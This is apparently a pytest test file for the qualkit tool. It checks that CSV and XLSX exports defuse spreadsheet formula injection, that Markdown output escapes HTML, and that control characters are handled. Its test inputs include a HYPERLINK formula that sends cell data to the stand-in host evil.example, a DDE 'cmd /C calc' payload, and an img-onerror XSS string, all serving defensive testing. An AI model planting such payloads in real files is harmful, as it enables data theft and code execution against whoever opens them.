"""Nothing injected (issue 16, points 6 and 7): a cell starting with = + - @ (or tab/CR) is inert in
every CSV and XLSX qualkit writes (OWASP CSV injection: prefix ', XLSX text stays text), Markdown
shows HTML as text, and control characters never break a Word or Excel export."""
from __future__ import annotations

import csv
import zipfile

import pandas as pd
import pytest

from qualkit.render.tables import export_tables
from qualkit.workspace.codebook import Code

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
INTERVIEW = "Interviewer: How do referrals arrive?\nMaria: By fax, days late.\nInterviewer: Always?\nMaria: Mostly.\n"


def _cells(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        return [c for row in csv.reader(f) for c in row]


def _xlsx_formulas(path):
    import openpyxl

    wb = openpyxl.load_workbook(path)
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize("payload", [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"])
def test_a_table_export_to_csv_makes_every_formula_inert(tmp_path, payload):
    out = tmp_path / "t.csv"
    export_tables(pd.DataFrame({"quote": [payload], "kappa": [-0.25]}), out, manifest=False)
    cells = _cells(out)
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells if c != "-0.25")
    assert "'" + payload.replace("\r", "\n") in cells or payload.startswith("\r")
    assert "-0.25" in cells  # numbers stay numbers


def test_codebook_export_keeps_a_formula_named_code_as_text(make_workspace, run_cli, tmp_path):
    make_workspace(codebook=[Code("evil", EVIL, definition="-1+1 @x")])
    assert run_cli("codebook", "export", str(tmp_path / "cb.xlsx")).exit_code == 0
    assert _xlsx_formulas(tmp_path / "cb.xlsx") == []
    assert run_cli("codebook", "export", str(tmp_path / "cb.csv")).exit_code == 0
    assert "'" + EVIL in _cells(tmp_path / "cb.csv")
    # and it reads back as it was
    from qualkit.coding.codebook_import import import_codebook

    back = import_codebook(tmp_path / "cb.csv", id="again")
    assert [c.name for c in back.codes] == [EVIL]


def test_turns_and_adjudication_csv_are_inert(make_workspace, run_cli):
    ws = make_workspace(transcripts={"int1": INTERVIEW.replace("By fax, days late.", "=1+1 by fax")},
                        codebook=[("fax", "Fax"), ("late", "Late")],
                        coders={"ana": [("=1+1 by fax", "fax")], "ben": [("=1+1 by fax", "late")]})
    out = ws.root / "exports" / "adj.csv"
    r = run_cli("disagreements", "--coders", "ana,ben", "--out", str(out))
    assert r.exit_code == 0, r.output
    assert not any(c.startswith(("=", "+", "@")) for c in _cells(out))
    assert run_cli("run").exit_code in (0, 1)
    for f in (ws.root / "exports").rglob("*.csv"):
        assert not any(c.startswith(("=", "+", "@")) for c in _cells(f)), f


def test_markdown_export_shows_html_as_text(tmp_path):
    out = tmp_path / "t.md"
    export_tables(pd.DataFrame({"quote": ["<img src=x onerror=alert(1)>"]}), out, manifest=False)
    text = out.read_text(encoding="utf-8")
    assert "<img" not in text and "&lt;img" in text


def test_a_control_character_in_a_transcript_is_reported_and_exports_still_work(make_workspace, run_cli):
    ws = make_workspace(transcripts={"int1": INTERVIEW.replace("days late", "days\x01 late")},
                        codebook=[("fax", "Fax"), ("late", "Late")],
                        coders={"ana": [("By fax", "fax")], "ben": [("By fax", "late")]})
    ingest = run_cli("ingest")
    assert "control character" in ingest.output
    for name in ("meeting.docx", "adj.xlsx"):
        r = run_cli("disagreements", "--coders", "ana,ben", "--out", str(ws.root / "exports" / name))
        assert r.exit_code == 0, r.output
        assert zipfile.is_zipfile(ws.root / "exports" / name)


def test_a_control_character_in_a_codebook_is_reported_and_exported_without_it(make_workspace, run_cli, tmp_path):
    make_workspace(codebook=[Code("fax", "Fax\x01", definition="Referrals\x02 by fax")])
    checked = run_cli("codebook", "validate")
    assert "control character" in checked.output
    for ext in ("docx", "xlsx"):
        r = run_cli("codebook", "export", str(tmp_path / f"cb.{ext}"))
        assert r.exit_code == 0, r.output
